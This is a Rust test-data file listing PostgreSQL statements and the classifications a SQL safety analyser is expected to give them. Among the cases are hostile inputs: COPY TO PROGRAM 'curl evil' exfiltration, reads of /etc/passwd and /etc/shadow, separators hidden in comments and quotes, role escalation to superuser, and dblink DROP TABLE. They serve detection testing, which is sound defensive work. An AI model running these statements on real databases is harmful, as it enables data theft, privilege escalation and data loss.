//! The rows of the SQL analysis corpus (see ../sql_analysis.rs).

use sluice::plugins::bindings::types::{
    StatementFlags as F, StatementKind as K, TableRef, WriteAction as A,
};

pub struct Case {
    pub sql: &'static str,
    pub kinds: Option<Vec<K>>,
    pub tag: Option<&'static str>,
    pub node: Option<&'static str>,
    pub has: F,
    pub lacks: F,
    pub writes: Option<Vec<(&'static str, A, bool)>>,
    pub reads: &'static [&'static str],
    pub not_reads: &'static [&'static str],
    pub calls: &'static [&'static str],
    pub has_where: Option<bool>,
    pub setting: Option<(&'static str, Option<&'static str>)>,
    pub prepared: Option<&'static str>,
}

fn c(sql: &'static str) -> Case {
    Case {
        sql,
        kinds: None,
        tag: None,
        node: None,
        has: F::empty(),
        lacks: F::empty(),
        writes: None,
        reads: &[],
        not_reads: &[],
        calls: &[],
        has_where: None,
        setting: None,
        prepared: None,
    }
}

impl Case {
    fn kind(mut self, k: K) -> Self {
        self.kinds = Some(vec![k]);
        self
    }
    fn kinds(mut self, k: &[K]) -> Self {
        self.kinds = Some(k.to_vec());
        self
    }
    fn tag(mut self, t: &'static str) -> Self {
        self.tag = Some(t);
        self
    }
    fn node(mut self, n: &'static str) -> Self {
        self.node = Some(n);
        self
    }
    fn has(mut self, f: F) -> Self {
        self.has |= f;
        self
    }
    fn lacks(mut self, f: F) -> Self {
        self.lacks |= f;
        self
    }
    /// Pure read: no state change, nothing written.
    fn read_only(self) -> Self {
        self.lacks(F::MODIFIES_STATE).writes(&[])
    }
    fn writes(mut self, w: &[(&'static str, A, bool)]) -> Self {
        self.writes = Some(w.to_vec());
        self
    }
    fn reads(mut self, r: &'static [&'static str]) -> Self {
        self.reads = r;
        self
    }
    fn not_reads(mut self, r: &'static [&'static str]) -> Self {
        self.not_reads = r;
        self
    }
    fn calls(mut self, f: &'static [&'static str]) -> Self {
        self.calls = f;
        self
    }
    fn where_(mut self, w: bool) -> Self {
        self.has_where = Some(w);
        self
    }
    fn setting(mut self, name: &'static str, value: Option<&'static str>) -> Self {
        self.setting = Some((name, value));
        self
    }
    fn prepared(mut self, p: &'static str) -> Self {
        self.prepared = Some(p);
        self
    }
}

pub fn show(t: &TableRef) -> String {
    match &t.schema {
        Some(s) => format!("{s}.{}", t.name),
        None => t.name.clone(),
    }
}

const MS: F = F::MODIFIES_STATE;

pub fn cases() -> Vec<Case> {
    vec![
        // ---- plain reads and writes
        c("SELECT id, name FROM users WHERE id = 1").kind(K::Query).tag("SELECT").node("SelectStmt").read_only().reads(&["users"]).where_(true),
        c("SELECT * FROM users").kind(K::Query).read_only().where_(false),
        c("VALUES (1), (2)").kind(K::Query).tag("SELECT").read_only(),
        c("TABLE users").kind(K::Query).read_only().reads(&["users"]),
        c("SELECT * FROM (SELECT * FROM accounts FOR SHARE) a").kind(K::Query).has(MS).writes(&[]),
        c("SELECT * FROM accounts FOR UPDATE").kind(K::Query).has(MS).writes(&[]),
        c("INSERT INTO t (a) VALUES (1)").kind(K::Dml).tag("INSERT").node("InsertStmt").has(MS).writes(&[("t", A::Insert, false)]),
        c("UPDATE t SET a = 1").kind(K::Dml).tag("UPDATE").writes(&[("t", A::Update, false)]).where_(false),
        c("UPDATE t SET a = 1 WHERE id = 2").kind(K::Dml).writes(&[("t", A::Update, true)]).where_(true),
        c("DELETE FROM t").kind(K::Dml).tag("DELETE").node("DeleteStmt").has(MS).writes(&[("t", A::Delete, false)]).where_(false),
        // ---- case tricks, comments, several statements
        c("dElEtE fRoM T").kind(K::Dml).writes(&[("t", A::Delete, false)]),
        c("/* harmless */ DELETE /* ; */ FROM t -- ; SELECT 1").kind(K::Dml).writes(&[("t", A::Delete, false)]),
        c("SELECT 1 /* outer /* nested ; DELETE FROM t */ still comment */").kind(K::Query).read_only(),
        c("SELECT 1; DELETE FROM t").kinds(&[K::Query, K::Dml]).has(MS).writes(&[("t", A::Delete, false)]),
        c("SELECT 1;;; DROP TABLE t;").kinds(&[K::Query, K::Ddl]).writes(&[("t", A::Drop, false)]),
        c("BEGIN; DELETE FROM t WHERE id = 1; COMMIT").kinds(&[K::Transaction, K::Dml, K::Transaction]).writes(&[("t", A::Delete, true)]),
        c("BEGIN").kind(K::Transaction).tag("BEGIN").lacks(MS),
        c("START TRANSACTION ISOLATION LEVEL SERIALIZABLE").kind(K::Transaction).tag("START TRANSACTION").lacks(MS),
        c("SAVEPOINT s1; ROLLBACK TO SAVEPOINT s1; RELEASE s1").kinds(&[K::Transaction; 3]).lacks(MS),
        c("PREPARE TRANSACTION 'x'").kind(K::Transaction).tag("PREPARE TRANSACTION").has(MS),
        c("COMMIT PREPARED 'x'").kind(K::Transaction).has(MS),
        // ---- quoting that hides statement separators
        c("SELECT $$ ; DELETE FROM t; $$").kind(K::Query).read_only(),
        c("SELECT $tag$ it's ; $$ DROP TABLE t $$ $tag$").kind(K::Query).read_only(),
        c("SELECT ';DELETE FROM t', E'\\';DELETE FROM u'").kind(K::Query).read_only(),
        c("SELECT \"DELETE FROM t;\" FROM x").kind(K::Query).reads(&["x"]).read_only(),
        // ---- identifiers
        c("SELECT * FROM U&\"d\\0061ta\"").kind(K::Query).reads(&["data"]),
        c("DELETE FROM U&\"!0061ccounts\" UESCAPE '!'").writes(&[("accounts", A::Delete, false)]),
        c("UPDATE \"Billing\".\"Invoices\" SET paid = true WHERE id = 1").writes(&[("Billing.Invoices", A::Update, true)]),
        c("DELETE FROM Billing.Invoices").writes(&[("billing.invoices", A::Delete, false)]),
        c("SELECT * FROM mydb.public.users").reads(&["public.users"]),
        // ---- writable CTEs
        c("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d").kind(K::Dml).node("SelectStmt").has(MS | F::WRITABLE_CTE).writes(&[("t", A::Delete, false)]).not_reads(&["d"]),
        c("WITH a AS (WITH b AS (UPDATE t SET x = 1 RETURNING id) SELECT * FROM b) SELECT * FROM a").kind(K::Dml).has(F::WRITABLE_CTE).writes(&[("t", A::Update, false)]),
        c("WITH x AS (DELETE FROM t WHERE id = 1 RETURNING id) INSERT INTO log SELECT * FROM x").kind(K::Dml).has(F::WRITABLE_CTE).writes(&[("t", A::Delete, true), ("log", A::Insert, false)]),
        c("SELECT * FROM (WITH q AS (SELECT 1) SELECT * FROM q) s, (WITH w AS (INSERT INTO audit VALUES (1) RETURNING 1) SELECT * FROM w) v").kind(K::Dml).has(F::WRITABLE_CTE).writes(&[("audit", A::Insert, false)]),
        // A CTE named like a table hides the table only inside its own scope.
        c("SELECT * FROM secrets, (WITH secrets AS (SELECT 1) SELECT * FROM secrets) s").reads(&["secrets"]),
        c("WITH t AS (SELECT * FROM t) SELECT * FROM t").reads(&["t"]),
        c("WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT * FROM r").kind(K::Query).not_reads(&["r"]).read_only(),
        // ---- SELECT INTO / CREATE TABLE AS
        c("SELECT * INTO copy_t FROM t").kind(K::Dml).tag("SELECT").has(MS | F::SELECT_INTO).writes(&[("copy_t", A::SelectInto, false)]).reads(&["t"]),
        c("CREATE TABLE s.c AS SELECT * FROM t").kind(K::Dml).tag("CREATE TABLE AS").has(MS | F::SELECT_INTO).writes(&[("s.c", A::Create, false)]).reads(&["t"]),
        c("CREATE MATERIALIZED VIEW mv AS SELECT * FROM t").has(MS).writes(&[("mv", A::Create, false)]),
        // ---- EXPLAIN
        c("EXPLAIN ANALYZE DELETE FROM t").kind(K::Dml).tag("EXPLAIN").node("ExplainStmt").has(MS | F::EXPLAIN_ANALYZE).writes(&[("t", A::Delete, false)]).where_(false),
        c("EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1 WHERE id = 1").kind(K::Dml).has(F::EXPLAIN_ANALYZE).writes(&[("t", A::Update, true)]),
        c("EXPLAIN (ANALYZE off) DELETE FROM t").kind(K::Query).lacks(MS | F::EXPLAIN_ANALYZE).writes(&[]).reads(&["t"]),
        c("EXPLAIN DELETE FROM t").kind(K::Query).tag("EXPLAIN").lacks(MS).writes(&[]).reads(&["t"]),
        c("EXPLAIN SELECT * FROM a JOIN b USING (id)").kind(K::Query).read_only().reads(&["a", "b"]),
        c("EXPLAIN ANALYZE WITH d AS (DELETE FROM t RETURNING 1) SELECT * FROM d").kind(K::Dml).has(F::EXPLAIN_ANALYZE | F::WRITABLE_CTE).writes(&[("t", A::Delete, false)]),
        c("EXPLAIN ANALYSE DELETE FROM t").kind(K::Dml).has(F::EXPLAIN_ANALYZE),
        c("EXPLAIN (FORMAT JSON, analyse 1) DELETE FROM t").kind(K::Dml).has(F::EXPLAIN_ANALYZE),
        c("EXPLAIN (ANALYZE 'off') DELETE FROM t").kind(K::Query).lacks(MS),
        c("EXPLAIN EXECUTE del(1)").kind(K::Query).lacks(MS),
        c("EXPLAIN ANALYZE EXECUTE del(1)").kind(K::Procedural).has(MS | F::DYNAMIC_SQL | F::EXPLAIN_ANALYZE),
        // ---- PREPARE / EXECUTE / DEALLOCATE
        c("PREPARE del(int) AS DELETE FROM t WHERE id = $1").kind(K::Dml).tag("PREPARE").node("PrepareStmt").has(MS).prepared("del").writes(&[("t", A::Delete, true)]).where_(true),
        c("PREPARE q AS SELECT * FROM users").kind(K::Query).prepared("q").read_only().reads(&["users"]),
        c("CREATE TABLE x AS EXECUTE del(1)").kind(K::Dml).has(MS | F::DYNAMIC_SQL).writes(&[("x", A::Create, false)]),
        c("EXECUTE del(1)").kind(K::Procedural).tag("EXECUTE").has(MS | F::DYNAMIC_SQL).prepared("del"),
        c("DEALLOCATE del").kind(K::Utility).prepared("del").has(MS),
        // ---- procedural
        c("DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$").kind(K::Procedural).tag("DO").node("DoStmt").has(MS | F::DYNAMIC_SQL),
        c("DO LANGUAGE plpgsql $body$ BEGIN DELETE FROM t; END; $body$").kind(K::Procedural).has(F::DYNAMIC_SQL),
        c("CALL billing.close_month(2024, 'x')").kind(K::Procedural).tag("CALL").has(MS | F::DYNAMIC_SQL).calls(&["billing.close_month"]),
        // ---- MERGE, ON CONFLICT, UPDATE FROM, DELETE USING, CURRENT OF
        c("MERGE INTO acc a USING src s ON a.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.v)").kind(K::Dml).tag("MERGE").writes(&[("acc", A::Merge, true)]).reads(&["src"]),
        c("INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET n = t.n + 1").kind(K::Dml).writes(&[("t", A::Insert, false)]),
        c("UPDATE t SET a = o.a FROM other o WHERE t.id = o.id").writes(&[("t", A::Update, true)]).reads(&["other"]),
        c("DELETE FROM t USING other o WHERE t.id = o.id").writes(&[("t", A::Delete, true)]).reads(&["other"]),
        c("DELETE FROM t WHERE CURRENT OF c").writes(&[("t", A::Delete, true)]).where_(true),
        c("INSERT INTO t SELECT * FROM secret_src").writes(&[("t", A::Insert, false)]).reads(&["secret_src"]).not_reads(&["t"]),
        c("DELETE FROM t WHERE id IN (SELECT id FROM (SELECT id FROM deep_src) x) RETURNING (SELECT max(v) FROM ret_src)").writes(&[("t", A::Delete, true)]).reads(&["deep_src", "ret_src"]),
        // ---- COPY
        c("COPY t TO PROGRAM 'curl evil'").kind(K::Copy).tag("COPY").has(MS | F::COPY_PROGRAM).reads(&["t"]),
        c("COPY t FROM PROGRAM 'id'").kind(K::Copy).has(MS | F::COPY_PROGRAM).writes(&[("t", A::CopyFrom, false)]),
        c("COPY t FROM '/etc/passwd'").kind(K::Copy).has(MS | F::COPY_SERVER_FILE).writes(&[("t", A::CopyFrom, false)]),
        c("COPY t TO '/tmp/out'").kind(K::Copy).has(MS | F::COPY_SERVER_FILE).writes(&[]),
        c("COPY t FROM STDIN").kind(K::Copy).has(MS | F::COPY_FROM_CLIENT).writes(&[("t", A::CopyFrom, false)]),
        c("COPY (SELECT * FROM users WHERE id > 1) TO STDOUT").kind(K::Copy).has(F::COPY_TO_CLIENT).lacks(MS).reads(&["users"]).writes(&[]),
        c("COPY (DELETE FROM t RETURNING *) TO STDOUT").kind(K::Copy).has(MS | F::COPY_TO_CLIENT).writes(&[("t", A::Delete, false)]),
        // ---- sessions and roles
        c("SET ROLE admin").kind(K::Session).tag("SET").has(MS | F::ROLE_CHANGE).setting("role", Some("admin")),
        c("SET LOCAL ROLE admin").kind(K::Session).has(F::ROLE_CHANGE).setting("role", Some("admin")),
        c("SET SESSION AUTHORIZATION postgres").kind(K::Session).has(MS | F::ROLE_CHANGE).setting("session_authorization", Some("postgres")),
        c("RESET ROLE").kind(K::Session).tag("RESET").has(F::ROLE_CHANGE).setting("role", None),
        c("RESET SESSION AUTHORIZATION").kind(K::Session).has(F::ROLE_CHANGE).setting("session_authorization", None),
        c("SET statement_timeout = 5000").kind(K::Session).lacks(MS | F::ROLE_CHANGE).setting("statement_timeout", Some("5000")),
        c("SET LOCAL Work_Mem TO '64MB'").kind(K::Session).lacks(MS).setting("work_mem", Some("64MB")),
        c("SET work_mem TO DEFAULT").kind(K::Session).setting("work_mem", None),
        c("RESET ALL").kind(K::Session).has(F::ROLE_CHANGE).setting("all", None),
        c("SET search_path = evil, public").kind(K::Session).has(MS).setting("search_path", Some("evil, public")),
        // Both change how the server reads later statement texts.
        c("SET standard_conforming_strings = off").kind(K::Session).has(MS).setting("standard_conforming_strings", Some("off")),
        c("SET NAMES 'SJIS'").kind(K::Session).has(MS).setting("client_encoding", Some("SJIS")),
        c("SET default_transaction_read_only = off").kind(K::Session).has(MS).setting("default_transaction_read_only", Some("off")),
        c("SET TRANSACTION READ WRITE").kind(K::Session).has(MS),
        c("SELECT set_config('role', 'admin', false)").kind(K::Query).has(MS | F::ROLE_CHANGE).calls(&["set_config"]),
        c("SELECT pg_catalog.set_config(current_user, 'x', true)").has(F::ROLE_CHANGE).calls(&["pg_catalog.set_config"]),
        c("SHOW search_path").kind(K::Query).tag("SHOW").read_only(),
        c("DISCARD ALL").kind(K::Session).tag("DISCARD ALL").has(MS),
        // ---- dangerous functions, wherever they hide
        c("SELECT * FROM pg_read_file('/etc/passwd')").kind(K::Query).has(MS).calls(&["pg_read_file"]),
        c("SELECT lo_import('/etc/shadow')").has(MS).calls(&["lo_import"]),
        c("SELECT dblink_exec('host=x', 'DROP TABLE t')").has(MS | F::DYNAMIC_SQL).calls(&["dblink_exec"]),
        c("SELECT ext.dblink('host=x', 'DELETE FROM t')").has(MS | F::DYNAMIC_SQL).calls(&["ext.dblink"]),
        c("SELECT query_to_xml('DELETE FROM t', true, true, '')").has(F::DYNAMIC_SQL).calls(&["query_to_xml"]),
        c("SELECT * FROM ts_stat('SELECT v FROM secrets')").has(F::DYNAMIC_SQL).calls(&["ts_stat"]),
        c("SELECT ts_rewrite('a'::tsquery, 'SELECT t, s FROM secrets')").has(F::DYNAMIC_SQL).calls(&["ts_rewrite"]),
        c("SELECT ts_rewrite('a & b'::tsquery, 'a'::tsquery, 'c'::tsquery)").lacks(F::DYNAMIC_SQL).calls(&["ts_rewrite"]),
        c("SELECT database_to_xml_and_xmlschema(true, false, '')").has(F::DYNAMIC_SQL).calls(&["database_to_xml_and_xmlschema"]),
        c("SELECT * FROM ext.crosstab('SELECT a, b, c FROM secrets') AS t(a int, b text)").has(F::DYNAMIC_SQL).calls(&["ext.crosstab"]),
        c("SELECT id FROM t WHERE owner = current_setting('app.user') AND pg_sleep(10) IS NOT NULL").has(MS).calls(&["current_setting", "pg_sleep"]),
        c("SELECT * FROM t ORDER BY evil_fn(id)").has(MS).calls(&["evil_fn"]),
        c("SELECT (SELECT nextval('s'))").has(MS).calls(&["nextval"]),
        c("WITH x AS (SELECT pg_terminate_backend(pid) FROM pg_stat_activity) SELECT * FROM x").has(MS).calls(&["pg_terminate_backend"]).reads(&["pg_stat_activity"]),
        c("SELECT lower(name), count(*) FROM users GROUP BY 1").kind(K::Query).read_only().calls(&["lower", "count"]),
        c("SELECT * FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.f = public.check_it(t.id))").has(MS).calls(&["public.check_it"]).reads(&["t", "u"]),
        c("INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET v = audit_fn(excluded.v)").calls(&["audit_fn"]),
        c("SELECT * FROM ROWS FROM (generate_series(1, 3), pg_ls_dir('.')) AS x").calls(&["generate_series", "pg_ls_dir"]).has(MS),
        // Attribute notation: `(expr).f` calls f(expr) when no field f exists.
        c("SELECT ('/etc/passwd'::text).pg_read_file").kind(K::Query).has(MS).calls(&["pg_read_file"]),
        c("SELECT (x).pg_ls_dir FROM (VALUES ('.')) v(x)").has(MS).calls(&["pg_ls_dir"]),
        c("SELECT (('.')::text).length").kind(K::Query).read_only().calls(&["length"]),
        // ---- functions bound into objects run later, wherever those are used
        c("CREATE OPERATOR ### (FUNCTION = pg_read_file, RIGHTARG = text)").kind(K::Ddl).tag("CREATE OPERATOR").has(MS | F::DYNAMIC_SQL).calls(&["pg_read_file"]),
        c("CREATE CAST (int AS text) WITH FUNCTION pg_catalog.pg_read_file(text)").kind(K::Ddl).has(MS | F::DYNAMIC_SQL).calls(&["pg_catalog.pg_read_file"]),
        c("CREATE AGGREGATE agg (sfunc = evil, stype = text)").tag("CREATE AGGREGATE").has(F::DYNAMIC_SQL).calls(&["evil"]),
        c("CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION evil()").has(F::DYNAMIC_SQL).calls(&["evil"]),
        c("CREATE OPERATOR CLASS oc FOR TYPE int USING btree AS FUNCTION 1 evil(int, int)").has(F::DYNAMIC_SQL).calls(&["evil"]),
        c("CREATE LANGUAGE plx HANDLER plx_handler").tag("CREATE LANGUAGE").has(F::DYNAMIC_SQL).calls(&["plx_handler"]),
        c("CREATE COLLATION coll (locale = 'C')").kind(K::Ddl).tag("CREATE COLLATION").has(MS).lacks(F::DYNAMIC_SQL),
        // ---- DDL
        c("CREATE TABLE s.t (id int DEFAULT next_id())").kind(K::Ddl).tag("CREATE TABLE").writes(&[("s.t", A::Create, false)]).calls(&["next_id"]),
        c("DROP TABLE IF EXISTS a, s.b CASCADE").kind(K::Ddl).tag("DROP TABLE").has(MS).writes(&[("a", A::Drop, false), ("s.b", A::Drop, false)]),
        c("DROP VIEW v").kind(K::Ddl).tag("DROP VIEW").writes(&[("v", A::Drop, false)]),
        c("DROP FUNCTION f(int)").kind(K::Ddl).tag("DROP FUNCTION").has(MS).writes(&[]),
        c("ALTER TABLE t ADD COLUMN c int").kind(K::Ddl).tag("ALTER TABLE").writes(&[("t", A::Alter, false)]),
        c("ALTER TABLE t RENAME TO u").kind(K::Ddl).writes(&[("t", A::Alter, false)]),
        c("TRUNCATE a, b").kind(K::Ddl).tag("TRUNCATE TABLE").has(MS).writes(&[("a", A::Truncate, false), ("b", A::Truncate, false)]),
        c("COMMENT ON TABLE t IS 'x'").kind(K::Ddl).tag("COMMENT").has(MS).writes(&[("t", A::Alter, false)]),
        c("COMMENT ON COLUMN billing.invoices.total IS 'x'").kind(K::Ddl).writes(&[("billing.invoices", A::Alter, false)]),
        c("COMMENT ON TRIGGER tr ON billing.invoices IS 'x'").writes(&[("billing.invoices", A::Alter, false)]),
        c("COMMENT ON CONSTRAINT c ON billing.invoices IS NULL").writes(&[("billing.invoices", A::Alter, false)]),
        c("SECURITY LABEL FOR selinux ON TABLE billing.invoices IS 'x'").tag("SECURITY LABEL").writes(&[("billing.invoices", A::Alter, false)]),
        c("COMMENT ON SCHEMA billing IS 'x'").kind(K::Ddl).writes(&[]),
        c("CREATE INDEX i ON t (a)").kind(K::Ddl).tag("CREATE INDEX").writes(&[("t", A::Other, false)]),
        c("CREATE RULE r AS ON SELECT TO t DO INSTEAD DELETE FROM victim").kind(K::Ddl).tag("CREATE RULE").has(MS | F::DYNAMIC_SQL).writes(&[("t", A::Alter, false), ("victim", A::Delete, false)]),
        c("CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION steal('x')").kind(K::Ddl).tag("CREATE TRIGGER").has(F::DYNAMIC_SQL).writes(&[("t", A::Alter, false)]).calls(&["steal"]),
        c("CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ DELETE FROM t $$").kind(K::Ddl).tag("CREATE FUNCTION").has(MS | F::DYNAMIC_SQL),
        c("CREATE OR REPLACE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN END $$").kind(K::Ddl).tag("CREATE PROCEDURE").has(F::DYNAMIC_SQL),
        c("CREATE FUNCTION g() RETURNS void BEGIN ATOMIC DELETE FROM t; END").kind(K::Ddl).has(F::DYNAMIC_SQL).writes(&[("t", A::Delete, false)]),
        c("CREATE SCHEMA s").kind(K::Ddl).tag("CREATE SCHEMA").has(MS),
        c("CREATE VIEW v AS SELECT * FROM secret").kind(K::Ddl).tag("CREATE VIEW").writes(&[("v", A::Create, false)]).reads(&["secret"]),
        c("CREATE EXTENSION dblink").kind(K::Ddl).has(MS),
        // ---- DCL
        c("GRANT SELECT ON t TO agent").kind(K::Dcl).tag("GRANT").has(MS),
        c("REVOKE ALL ON ALL TABLES IN SCHEMA public FROM agent").kind(K::Dcl).tag("REVOKE"),
        c("GRANT admin TO agent").kind(K::Dcl).tag("GRANT ROLE"),
        c("CREATE ROLE r LOGIN SUPERUSER").kind(K::Dcl).tag("CREATE ROLE").has(MS),
        c("CREATE USER u PASSWORD 'x'").kind(K::Dcl).tag("CREATE USER"),
        c("ALTER USER u WITH SUPERUSER").kind(K::Dcl).tag("ALTER ROLE"),
        c("DROP ROLE IF EXISTS r").kind(K::Dcl).tag("DROP ROLE"),
        c("ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO agent").kind(K::Dcl).tag("ALTER DEFAULT PRIVILEGES"),
        // ---- utility
        c("VACUUM FULL t").kind(K::Utility).tag("VACUUM").has(MS).writes(&[("t", A::Other, false)]),
        c("ANALYZE t").kind(K::Utility).tag("ANALYZE").has(MS),
        c("LISTEN ch").kind(K::Utility).tag("LISTEN").has(MS),
        c("NOTIFY ch, 'payload'").kind(K::Utility).tag("NOTIFY").has(MS),
        c("LOCK TABLE t IN ACCESS EXCLUSIVE MODE").kind(K::Utility).tag("LOCK TABLE").has(MS).writes(&[("t", A::Other, false)]),
        c("CHECKPOINT").kind(K::Utility).tag("CHECKPOINT").has(MS),
        c("LOAD 'auto_explain'").kind(K::Utility).tag("LOAD").has(MS),
        c("DECLARE c CURSOR FOR SELECT * FROM t").tag("DECLARE CURSOR").reads(&["t"]),
    ]
}
